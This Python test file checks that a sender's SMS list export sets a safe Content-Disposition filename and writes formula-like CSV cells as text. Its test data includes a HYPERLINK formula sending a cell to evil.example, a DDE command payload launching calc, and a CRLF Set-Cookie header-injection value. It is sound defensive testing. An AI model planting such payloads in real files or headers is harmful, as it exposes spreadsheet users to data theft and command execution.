"""A list export is safe to download and to open in a spreadsheet (issue 14), whatever the client's name and
references hold: the Content-Disposition names the file in ASCII and in UTF-8 (RFC 6266), nothing in a name can
end the header or add one, and a text cell that starts a formula is written as text."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import pytest

from ..usage_helpers import sender_client, sign_in

BASE = "/api/v1/senders/me/lists"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _filenames(header: str) -> tuple[str, str]:
    assert "\r" not in header and "\n" not in header
    plain = header.split('filename="', 1)[1].split('"', 1)[0]
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert ";" not in encoded and '"' not in encoded and " " not in encoded
    return plain, unquote(encoded)


@pytest.mark.parametrize("client_ref", ["客戶甲", 'ACME "Ltd"', "a;b=c", "x\r\nSet-Cookie: y=1", "ça va"])
def test_any_client_name_gives_a_safe_download_name(runtime, account_id, client_ref):
    with sender_client(runtime) as client:
        sign_in(client, account_id)
        api = client.get(f"{BASE}/sms/export", params={"client": client_ref})
        page = client.get("/senders/lists/export", params={"register": "sms", "client": client_ref})
    for response in (api, page):
        assert response.status_code == 200, response.text
        plain, real = _filenames(response.headers["content-disposition"])
        assert response.headers["content-disposition"].startswith("attachment; ")
        assert plain.isascii() and all(c.isalnum() or c in "._-" for c in plain), plain
        assert real == f"sms-current-{client_ref.strip()}.csv"
    assert "y=1" not in api.headers.get("set-cookie", "")


def test_formula_cells_are_written_as_text_and_numbers_are_not(runtime, account_id):
    lines = [("91234567", "consent", "2026-02-01", "web-form", FORMULA),
             ("61234567", "unsubscribe", "2026-02-02", "reply-stop", "+SUM(1,2)"),
             ("51234567", "consent", "2026-02-03", "call", "@cmd"),
             ("92345678", "consent", "2026-02-04", "call", "-2+3"),
             ("93456789", "consent", "2026-02-05", "call", "F-17")]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([("number", "instruction", "at", "how", "reference"), *lines])
    with sender_client(runtime) as client:
        csrf = sign_in(client, account_id)
        imported = client.post(f"{BASE}/sms/import", files={"file": ("l.csv", out.getvalue().encode(), "text/csv")},
                               data={"client": "=cmd|' /C calc'!A0"}, headers=csrf)
        assert imported.status_code == 200, imported.text
        export = client.get(f"{BASE}/sms/export", params={"client": "=cmd|' /C calc'!A0", "full": "true"})
    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(export.text))}
    assert rows["91234567"]["reference"] == "'" + FORMULA
    assert rows["61234567"]["reference"] == "'+SUM(1,2)"
    assert rows["51234567"]["reference"] == "'@cmd"
    assert rows["92345678"]["reference"] == "'-2+3"
    assert rows["93456789"]["reference"] == "F-17"  # not a formula: unchanged
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values()
               for value in row.values() if value)
